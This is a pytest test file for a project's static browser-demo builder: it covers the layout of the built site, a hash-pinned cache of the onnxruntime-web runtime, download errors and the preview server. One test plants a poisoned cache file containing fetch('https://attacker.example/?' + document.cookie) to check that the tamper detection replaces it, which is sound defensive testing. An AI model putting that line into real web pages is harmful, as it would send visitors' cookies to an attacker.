"""`web`: the static browser demo's layout, its runtime cache, its preview server and its errors.

These tests run offline: the onnxruntime-web runtime comes from a stand-in cache or a stand-in
tarball whose hashes the test pins in place of the real ones, so only the download from the npm
registry itself is not exercised here.
"""

import csv
import gzip
import hashlib
import http.server
import io
import json
import os
import shutil
import socket
import subprocess
import sys
import tarfile
import threading
import urllib.request
from pathlib import Path

import pytest

from surgical_tool_detector import web
from surgical_tool_detector.cli import main

PROJECT_ROOT = Path(__file__).resolve().parents[1]
STAND_IN = {name: f"// stand-in for {name}\n".encode() for name in web.RUNTIME_FILES}


@pytest.fixture(autouse=True)
def pinned_stand_ins(monkeypatch: pytest.MonkeyPatch) -> None:
    """Pin the stand-in runtime files' hashes, as web.py pins the real files' hashes."""
    pinned = {name: web.integrity(data) for name, data in STAND_IN.items()}
    monkeypatch.setattr(web, "RUNTIME_FILES", pinned)


def fill_cache(folder: Path, files: dict[str, bytes]) -> None:
    """Write runtime files into a cache folder as a download stores them (gzipped where due)."""
    folder.mkdir(parents=True, exist_ok=True)
    for name, data in files.items():
        packed = gzip.compress(data) if name in web.GZIPPED else data
        (folder / web.stored_name(name)).write_bytes(packed)


@pytest.fixture
def runtime_cache(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A cache that already holds the runtime files (tiny stand-ins), as after a first build."""
    monkeypatch.setenv(web.CACHE_ENV, str(tmp_path / "ort-cache"))
    fill_cache(web.cache_dir(), STAND_IN)
    return web.cache_dir()


def fake_tarball(tmp_path: Path) -> Path:
    """An npm-style tarball holding the stand-in runtime files under package/dist/."""
    path = tmp_path / "onnxruntime-web.tgz"
    with tarfile.open(path, "w:gz") as archive:
        for name, data in STAND_IN.items():
            member = tarfile.TarInfo(f"package/dist/{name}")
            member.size = len(data)
            archive.addfile(member, io.BytesIO(data))
    return path


@pytest.fixture
def registry(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The stand-in tarball as the download, with its hash pinned; the cache starts empty."""
    tarball = fake_tarball(tmp_path)
    monkeypatch.setenv(web.CACHE_ENV, str(tmp_path / "cache"))
    monkeypatch.setattr(web, "RUNTIME_URL", tarball.as_uri())
    monkeypatch.setattr(web, "RUNTIME_INTEGRITY", web.integrity(tarball.read_bytes()))
    return tarball


def error_line(capsys: pytest.CaptureFixture[str]) -> str:
    lines = capsys.readouterr().err.strip().splitlines()
    assert len(lines) == 1, lines
    return lines[0]


def test_build_writes_the_complete_site(exported_workdir, runtime_cache):
    main(["web", "--build", "site"])

    site = Path("site")
    for name in [
        "index.html",
        "page.js",
        "model.js",
        "style.css",
        "examples.json",
        "downloads.json",
        "models/model.onnx",
        "models/labels.json",
        "reports/metrics.json",
    ]:
        assert (site / name).is_file(), name
    shipped = sorted(web.stored_name(name) for name in web.RUNTIME_FILES)
    assert sorted(p.name for p in (site / "ort").iterdir()) == shipped
    assert (site / "models/model.onnx").read_bytes() == Path("models/model.onnx").read_bytes()
    examples = json.loads((site / "examples.json").read_text())
    assert 0 < len(examples) <= web.MAX_EXAMPLES
    assert all(list(example) == ["input"] for example in examples)  # never the answer
    index = (site / "index.html").read_text()
    assert 'src="page.js"' in index and "Content-Security-Policy" in index
    assert not [p for p in Path(".").iterdir() if p.name.startswith(web.BUILD_PREFIX)]


def test_downloads_json_tells_the_page_sizes_and_hashes(exported_workdir, runtime_cache):
    main(["web", "--build", "site"])

    listing = json.loads(Path("site/downloads.json").read_text())
    for entry in listing.values():
        data = (Path("site") / entry["path"]).read_bytes()
        assert (entry["bytes"], entry["sha256"]) == (len(data), hashlib.sha256(data).hexdigest())
    assert listing["model"]["path"] == "models/model.onnx"
    unpacked = gzip.decompress((Path("site") / listing["runtime"]["path"]).read_bytes())
    assert listing["runtime"]["unpacked_bytes"] == len(unpacked)
    assert listing["runtime"]["unpacked_sha256"] == hashlib.sha256(unpacked).hexdigest()


def test_examples_take_one_class_at_a_time(exported_workdir):
    picked = web.pick_examples()
    labels = [row.get("label", "") for row in picked]
    distinct = len(set(labels))
    # the first rows cover every class before any class repeats
    assert len(set(labels[:distinct])) == distinct


def test_build_refuses_a_project_without_a_model(workdir, runtime_cache, capsys):
    with pytest.raises(SystemExit) as error:
        main(["web", "--build", "site"])

    assert error.value.code == 1
    assert f"run `python -m {web.__package__} export`" in error_line(capsys)
    assert not Path("site").exists()


def test_build_refuses_a_folder_that_is_not_empty(exported_workdir, runtime_cache, capsys):
    Path("site").mkdir()
    Path("site/mine.txt").write_text("keep me")

    with pytest.raises(SystemExit):
        main(["web", "--build", "site"])

    assert "not an empty folder" in error_line(capsys)
    assert Path("site/mine.txt").read_text() == "keep me"


def test_an_interrupted_build_leaves_nothing(exported_workdir, runtime_cache, monkeypatch, capsys):
    copy = shutil.copyfile

    def interrupted(source, target, *args, **kwargs):
        if Path(target).name == "labels.json":  # halfway through the site
            raise KeyboardInterrupt
        return copy(source, target, *args, **kwargs)

    monkeypatch.setattr(web.shutil, "copyfile", interrupted)
    with pytest.raises(SystemExit) as error:
        main(["web", "--build", "site"])

    assert error.value.code == 130
    assert not Path("site").exists()
    assert not [p for p in Path(".").iterdir() if p.name.startswith(web.BUILD_PREFIX)]


def test_a_build_removes_what_a_killed_one_left(exported_workdir, runtime_cache):
    dead = subprocess.run(
        [sys.executable, "-c", "import os; print(os.getpid())"],
        capture_output=True,
        text=True,
        check=True,
    ).stdout.strip()
    leftover = Path(f"{web.BUILD_PREFIX}{dead}-abc123")
    (leftover / "ort").mkdir(parents=True)
    running = Path(f"{web.BUILD_PREFIX}{os.getpid()}-def456")  # a build still at work: kept
    running.mkdir()

    main(["web", "--build", "site"])

    assert not leftover.exists() and running.exists()


def test_runtime_is_downloaded_checked_and_cached(registry):
    folder = web.runtime_files()

    assert sorted(p.name for p in folder.iterdir()) == sorted(
        web.stored_name(name) for name in web.RUNTIME_FILES
    )
    registry.unlink()  # a second build needs no download
    assert web.runtime_files() == folder


def test_a_tampered_cache_is_replaced_before_it_reaches_a_site(exported_workdir, registry):
    folder = web.runtime_files()
    poisoned = folder / web.stored_name("ort.wasm.bundle.min.mjs")
    poisoned.write_text("fetch('https://attacker.example/?' + document.cookie)")

    main(["web", "--build", "site"])

    shipped = Path("site/ort/ort.wasm.bundle.min.mjs").read_bytes()
    assert shipped == STAND_IN["ort.wasm.bundle.min.mjs"]
    assert poisoned.read_bytes() == shipped  # the cache was downloaded again, and checked


def test_a_tarball_with_the_wrong_hash_is_refused(registry, monkeypatch):
    monkeypatch.setattr(web, "RUNTIME_INTEGRITY", web.integrity(b"another tarball"))

    with pytest.raises(web.StageError, match="does not match its published hash"):
        web.runtime_files()
    assert not web.cache_dir().exists()


class CutShort(http.server.BaseHTTPRequestHandler):
    """Announces a large tarball, sends a few bytes and hangs up: a dropped connection."""

    def do_GET(self) -> None:
        self.send_response(200)
        self.send_header("Content-Length", "33106585")
        self.end_headers()
        self.wfile.write(b"\x1f\x8b" + b"\0" * 1000)

    def log_message(self, format: str, *args: object) -> None:
        pass


def test_a_download_cut_short_is_one_clear_line(exported_workdir, tmp_path, monkeypatch, capsys):
    monkeypatch.setenv(web.CACHE_ENV, str(tmp_path / "empty-cache"))
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), CutShort) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        monkeypatch.setattr(web, "RUNTIME_URL", f"http://127.0.0.1:{server.server_address[1]}/")
        with pytest.raises(SystemExit):
            main(["web", "--build", "site"])
        server.shutdown()

    assert "the download stopped after 1,002 bytes" in error_line(capsys)
    assert not Path("site").exists()
    assert not any(web.cache_dir().parent.glob(f"{web.DOWNLOAD_PREFIX}*"))


def test_an_unreachable_registry_is_one_clear_line(exported_workdir, tmp_path, monkeypatch, capsys):
    monkeypatch.setenv(web.CACHE_ENV, str(tmp_path / "empty-cache"))
    monkeypatch.setattr(web, "RUNTIME_URL", "http://127.0.0.1:9/onnxruntime-web.tgz")

    with pytest.raises(SystemExit):
        main(["web", "--build", "site"])

    assert "cannot download onnxruntime-web" in error_line(capsys)
    assert not Path("site").exists()


def test_the_command_imports_no_numerical_library():
    # `web` only copies files, so it must start fast even where torch is installed.
    code = (
        f"import sys; from {web.__package__} import cli, web; "
        "print(sorted({'numpy', 'onnxruntime', 'torch'} & set(sys.modules)))"
    )
    result = subprocess.run(
        [sys.executable, "-c", code],
        capture_output=True,
        text=True,
        check=True,
        env={**os.environ, "PYTHONPATH": str(PROJECT_ROOT / "src")},
    )
    assert result.stdout.strip() == "[]"


def test_preview_serves_the_site_and_kill_leaves_nothing(exported_workdir, runtime_cache, tmp_path):
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    scratch = tmp_path / "tmp"  # the preview's temporary site goes here
    scratch.mkdir()
    # The preview runs in a process of its own: pin the stand-ins' hashes there too.
    code = (
        f"import sys; from {web.__package__} import cli, web; "
        f"web.RUNTIME_FILES = {dict(web.RUNTIME_FILES)!r}; cli.main(sys.argv[1:])"
    )
    server = subprocess.Popen(
        [sys.executable, "-c", code, "web", "--port", str(port)],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        env={**os.environ, "PYTHONPATH": str(PROJECT_ROOT / "src"), "TMPDIR": str(scratch)},
    )
    try:
        assert f"http://127.0.0.1:{port}/" in server.stdout.readline()
        assert list(scratch.iterdir())  # the site being served
        with urllib.request.urlopen(f"http://127.0.0.1:{port}/") as response:
            assert b'src="page.js"' in response.read()
        module = f"http://127.0.0.1:{port}/ort/ort.wasm.bundle.min.mjs"
        with urllib.request.urlopen(module) as response:
            assert response.headers["Content-Type"] == "text/javascript"
            response.read()  # all of it, so no answer is still being sent when the server stops
    finally:
        server.terminate()  # SIGTERM, as `kill` sends
        server.wait(timeout=10)
    assert (server.returncode, server.stderr.read().strip()) == (130, "interrupted")
    assert not list(scratch.iterdir())


def test_example_files_are_numbered_not_named(exported_workdir, runtime_cache):
    main(["web", "--build", "site"])

    examples = json.loads(Path("site/examples.json").read_text())
    for number, example in enumerate(examples, start=1):
        assert Path(example["input"]).stem == f"{number:02d}"  # a file name can give the answer
        assert (Path("site") / example["input"]).is_file()
    assert len(list(Path("site/examples").iterdir())) == len(examples)


def test_build_refuses_an_example_outside_data(exported_workdir, runtime_cache, capsys, tmp_path):
    outside = tmp_path / "private.jpg"
    outside.write_bytes(b"not for the public site")
    split = Path("data/splits/test.csv")
    with split.open(newline="") as handle:
        rows = list(csv.DictReader(handle))
    rows[0]["path"] = str(outside)
    with split.open("w", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)

    with pytest.raises(SystemExit):
        main(["web", "--build", "site"])

    assert "is not a file inside data/" in error_line(capsys)
    assert not Path("site").exists()
    assert not [p for p in Path(".").iterdir() if p.name.startswith(web.BUILD_PREFIX)]
